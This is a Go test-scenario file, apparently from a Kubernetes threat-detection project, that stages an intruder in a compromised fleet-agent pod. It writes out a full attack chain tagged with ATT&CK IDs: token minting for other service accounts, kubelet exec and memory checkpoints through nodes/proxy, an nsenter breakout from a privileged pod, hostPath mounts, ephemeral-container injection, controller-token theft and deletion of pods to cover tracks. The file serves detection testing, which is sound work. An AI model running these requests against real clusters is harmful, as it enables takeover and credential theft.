package play

import (
	"fmt"
	"strings"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

const (
	goClient    = "Go-http-client/2.0" // what a tool in Go calls itself that does not care
	imageFleet  = "registry.example.com/fleet/agent:4.2.1"
	imageHelper = "docker.io/library/debian:12-slim"

	mergePatch     = "Content-Type: application/merge-patch+json"
	jsonPatch      = "Content-Type: application/json-patch+json"
	strategicPatch = "Content-Type: application/strategic-merge-patch+json"
	applyPatch     = "Content-Type: application/apply-patch+yaml"
)

// fleetRole is what a fleet agent's chart asks for: much, but no list of secrets and no role bindings.
const fleetRole = `[{apiGroups: [""], resources: [pods], verbs: [get, list, watch, create, patch, delete]}, {apiGroups: [""], resources: [pods/exec, pods/attach, pods/proxy, services/proxy, nodes/proxy, pods/ephemeralcontainers], verbs: [get, create, patch, update]},
  {apiGroups: [""], resources: [configmaps, services, serviceaccounts, nodes, namespaces, endpoints], verbs: [get, list, watch]}, {apiGroups: [""], resources: [secrets], verbs: [get]}, {apiGroups: [""], resources: [serviceaccounts/token], verbs: [create]}]`

// Foothold is an intruder in a fleet agent's pod who has the usual tools for that: they ask what the token may do, and
// then take every way that it opens.
func Foothold(s *stage.Stage) {
	c := Found(s)
	s.Images(imageFleet, imageHelper, imageNetshoot)
	c.Mira.MustApply(join(namespaceOf("fleet"), clusterAccount("fleet", "fleet-agent", fleetRole), Deployment("fleet", "fleet-agent", imageFleet, 1, "fleet-agent")), "apply", "-f", "-")
	agent := s.Pod("fleet", "app=fleet-agent")
	thief := agent.ServiceAccount()

	s.Attack("T1613", "Discovery: Access Kubernetes API server", "reviews its rights in several namespaces with an enumeration tool").
		As(thief).Do(func(a *stage.Act) {
		const tool = "kdigger/v0.0.0 (linux/amd64) kubernetes/$Format"
		a.Request(tool, "GET", "/version", "")
		a.Request(tool, "POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", `{"kind":"SelfSubjectReview","apiVersion":"authentication.k8s.io/v1"}`)
		for _, ns := range []string{"default", "fleet", "kube-system", "payments"} {
			a.Request(tool, "POST", selfRules, `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"`+ns+`"}}`)
		}
	})
	s.Attack("T1087", "Discovery: Access Kubernetes API server", "lists the service accounts and pods of all namespaces").
		As(thief).Do(func(a *stage.Act) {
		for _, r := range []string{"namespaces", "serviceaccounts", "pods", "nodes"} {
			a.Request(goClient, "GET", "/api/v1/"+r, "")
		}
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "tries likely names of secrets, since it may not list them").
		As(thief).Do(func(a *stage.Act) {
		for _, name := range []string{"payments/db-credentials", "payments/database", "shop/session-key", "data/warehouse-dsn", "kube-system/cloud-config", "fleet/registry", "kube-system/bootstrap-token-abcdef"} {
			ns, secret, _ := strings.Cut(name, "/")
			a.Request(goClient, "GET", "/api/v1/namespaces/"+ns+"/secrets/"+secret, "")
		}
	})
	s.Attack("T1552.001", "Credential Access: Application credentials in configuration files", "reads and then watches all config maps").
		As(thief).Do(func(a *stage.Act) {
		a.Request(goClient, "GET", "/api/v1/configmaps?limit=250", "")
		a.Request(goClient, "GET", "/api/v1/configmaps?watch=true&timeoutSeconds=2", "")
	})
	borrowTokens(s, thief, agent)
	throughProxies(s, thief, agent)
	podForms(s, thief, agent)
}

// borrowTokens has tokens made for others.
func borrowTokens(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
	var token string
	s.Attack("T1528", "Credential Access: Access container service account", "has a token made for the account of payments/api by a bare request").
		As(thief).Do(func(a *stage.Act) {
		_, body := a.Request(curl, "POST", "/api/v1/namespaces/payments/serviceaccounts/payments-api/token", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":86400}}`)
		token = between(body, `"token": "`, `"`, `"token":"`)
	})
	s.Attack("T1550.001", "Lateral Movement: Container service account", "tries that token").
		As(s.Bearer(agent, token, nil)).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets", "")
		a.Request(curl, "POST", selfRules, `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"payments"}}`)
	})
	s.Attack("T1528", "Credential Access: Access container service account", "has tokens made for one account after the other of kube-system").
		As(thief).Do(func(a *stage.Act) {
		for _, name := range []string{"default", "daemon-set-controller", "replicaset-controller", "token-cleaner"} {
			a.Kubectl("-n", "kube-system", "create", "token", name)
		}
	})
}

// between is what stands between one of the starts and an end, "" if none is found.
func between(text, start, end string, other ...string) string {
	for _, s := range append([]string{start}, other...) {
		if _, after, ok := strings.Cut(text, s); ok {
			inner, _, _ := strings.Cut(after, end)
			return inner
		}
	}
	return ""
}

// throughProxies lets the API server connect for it.
func throughProxies(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
	const node = "/api/v1/nodes/node1/proxy/"
	api := s.Pod("payments", "app=api")
	s.Attack("T1613", "Discovery: Access Kubelet API", "asks the kubelet for pods, statistics and configuration").
		As(thief).Do(func(a *stage.Act) {
		for _, path := range []string{"pods", "stats/summary", "configz", "logs/"} {
			a.Request(goClient, "GET", node+path, "")
		}
	})
	s.Attack("T1609", "Execution: Exec into container", "runs a command in "+api.String()+" with a GET to the kubelet's exec").
		On(api).As(thief).Do(func(a *stage.Act) {
		a.Request("websocat/1.13.0", "GET", node+"exec/payments/"+api.Name+"/api?command=id&output=1&error=1", "",
			"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: c2NlbmFyaW8gcGxheWVyIQ==", "Sec-WebSocket-Protocol: v4.channel.k8s.io")
	})
	s.Attack("T1003", "Collection: Collecting data from pod", "has the kubelet write a checkpoint of "+api.String()+"'s memory").
		On(api).As(thief).Do(func(a *stage.Act) { a.Request(curl, "POST", node+"checkpoint/payments/"+api.Name+"/api", "") })
	var token string
	s.Attack("T1552.007", "Credential Access: Access container service account", "fetches the token of "+api.String()+" through pods/proxy and a hole of the application").
		On(api).As(thief).Do(func(a *stage.Act) {
		_, token = a.Request(curl, "GET", "/api/v1/namespaces/payments/pods/"+api.Name+":8080/proxy/file?path="+stage.TokenFile, "")
	})
	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses the token of "+api.String()+" in its own pod").
		As(s.Bearer(agent, token, api)).Do(func(a *stage.Act) { a.Kubectl("-n", "payments", "get", "pods") })
	s.Attack("T1090.001", "Lateral Movement: Cluster internal networking", "talks to payments/ledger through services/proxy").
		As(thief).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/services/ledger:http/proxy/admin", "")
		a.Request(curl, "POST", "/api/v1/namespaces/payments/services/ledger:http/proxy/transfer", `{"to":"mallory"}`)
	})
}

// podForms makes pods in the forms that tools write them.
func podForms(s *stage.Stage, thief *stage.Actor, agent *stage.Pod) {
	const breakout = `{"apiVersion":"v1","kind":"Pod","metadata":{"generateName":"node-debugger-"},"spec":{"hostPID":true,"terminationGracePeriodSeconds":0,"containers":[{"name":"main","image":"` + imageHelper + `","imagePullPolicy":"IfNotPresent","command":["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","sh","-c","id"],"securityContext":{"privileged":true}}]}}`
	s.Attack("T1610", "Privilege Escalation: Privileged container", "asks whether it could run a privileged pod (dry run)").
		As(thief).Do(func(a *stage.Act) {
		a.Request(goClient, "POST", "/api/v1/namespaces/fleet/pods?dryRun=All", breakout)
	})
	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs it, named by the API server, to enter the node's namespaces").
		As(thief).Do(func(a *stage.Act) { a.Request(goClient, "POST", "/api/v1/namespaces/fleet/pods", breakout) })
	s.Attack("T1611", "Privilege Escalation: hostPath mount", "applies a pod on the server's side that has the node's files").
		As(thief).Do(func(a *stage.Act) {
		a.Request(goClient, "PATCH", "/api/v1/namespaces/fleet/pods/cache-warm?fieldManager=fleet&force=true",
			`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"cache-warm"},"spec":{"terminationGracePeriodSeconds":0,"containers":[{"name":"main","image":"`+imageHelper+`","imagePullPolicy":"IfNotPresent","command":["sleep","3600"],"volumeMounts":[{"name":"v","mountPath":"/v"}]}],"volumes":[{"name":"v","hostPath":{"path":"/var/lib/kubelet"}}]}}`, applyPatch)
	})
	warm := s.PodNamed("fleet", "cache-warm")
	s.Attack("T1609", "Execution: Exec into container", "lists the files of the node's pods in it, by a bare exec request").
		On(warm).As(thief).Do(func(a *stage.Act) {
		a.Request("python-websocket/1.8", "GET", "/api/v1/namespaces/fleet/pods/cache-warm/exec?command=ls&command=/v/pods&stdout=true", "",
			"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: c2NlbmFyaW8gcGxheWVyIQ==", "Sec-WebSocket-Protocol: v5.channel.k8s.io")
	})
	s.Attack("T1611", "Privilege Escalation: Privileged container", "debugs the node with the profile for administrators").
		As(thief).Do(func(a *stage.Act) {
		a.Brief(4*time.Second, "debug", "node/node1", "--image="+imageHelper, "--profile=sysadmin", "--", "sleep", "1")
	})
	cart := s.Pod("shop", "app=cart")
	s.Attack("T1610", "Execution: New container", "makes a copy of "+cart.String()+" with another image and shared processes").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("-n", "shop", "debug", cart.Name, "--copy-to=cart-inspect", "--set-image=*="+imageNetshoot, "--share-processes", "--same-node")
	})
	s.Attack("T1609", "Execution: New container", "adds a container to "+cart.String()+" by a PUT of its ephemeral containers").
		On(cart).As(thief).Do(func(a *stage.Act) {
		_, body := a.Request(curl, "GET", "/api/v1/namespaces/shop/pods/"+cart.Name, "")
		const added = `"spec":{"ephemeralContainers":[{"name":"t","image":"` + imageNetshoot + `","imagePullPolicy":"IfNotPresent","command":["sleep","600"],"targetContainerName":"cart"}],`
		a.Request(curl, "PUT", "/api/v1/namespaces/shop/pods/"+cart.Name+"/ephemeralcontainers", strings.Replace(body, `"spec":{`, added, 1))
	})
	s.Attack("T1610", "Lateral Movement: Container service account", "runs a pod in kube-system with a controller's account and a token for another audience").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(pod("kube-system", "kube-dns-autoscaler", imageHelper, `serviceAccountName: clusterrole-aggregation-controller, volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: vault, expirationSeconds: 86400}}]}}]`, `volumeMounts: [{name: t, mountPath: /t}]`), "create", "-f", "-")
	})
	moved := s.PodNamed("kube-system", "kube-dns-autoscaler")
	s.Attack("T1552.007", "Credential Access: Access container service account", "reads the controller's token by exec").
		On(moved).As(thief).Do(func(a *stage.Act) {
		a.Kubectl("-n", "kube-system", "exec", moved.Name, "--", "cat", stage.TokenFile)
	})
	s.Attack("T1070", "Defense Evasion: Clear container logs", "deletes the pods it made, one by one without delay").
		As(thief).Do(func(a *stage.Act) {
		for _, p := range []string{"fleet/cache-warm", "shop/cart-inspect", "kube-system/kube-dns-autoscaler"} {
			ns, name, _ := strings.Cut(p, "/")
			a.Request(goClient, "DELETE", fmt.Sprintf("/api/v1/namespaces/%s/pods/%s?gracePeriodSeconds=0", ns, name), "")
		}
	})
}
